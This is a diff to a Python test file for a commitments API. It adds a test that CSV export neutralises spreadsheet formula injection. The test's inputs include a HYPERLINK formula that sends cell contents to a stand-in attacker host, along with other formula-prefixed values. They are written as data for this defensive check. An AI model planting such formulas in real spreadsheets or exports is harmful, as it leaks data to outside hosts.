@@ -1,5 +1,7 @@
 """The commitments resource: react-admin's list contract, edits with versions, deletes."""
 
+import csv
+import io
 import json
 
 from suivi_kit.testing import auth
@@ -150,6 +152,19 @@ async def test_export_csv_and_json(client):
         headers=auth("viewer"),
     )
     assert [c["topics"] for c in filtered.json()] == [["igf_mandate"]]
+
+
+async def test_csv_export_neutralises_formulas(client):
+    """OWASP: a cell starting with =, +, -, @, tab or CR is exported as text, not as a formula."""
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1"]
+    for formula in formulas:
+        await create(client, title=formula, text=f"{formula} Nous nous engageons à agir.")
+    exported = await client.get("/api/commitments/export", params={"format": "csv"}, headers=auth("viewer"))
+    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    assert sorted(row["title"] for row in rows) == sorted("'" + formula for formula in formulas)
+    assert all(row["text"].startswith("'") for row in rows)
+    as_json = await client.get("/api/commitments/export", params={"format": "json"}, headers=auth("viewer"))
+    assert sorted(c["title"] for c in as_json.json()) == sorted(formulas)  # JSON keeps the data as it is
 
 
 async def test_stats(client):
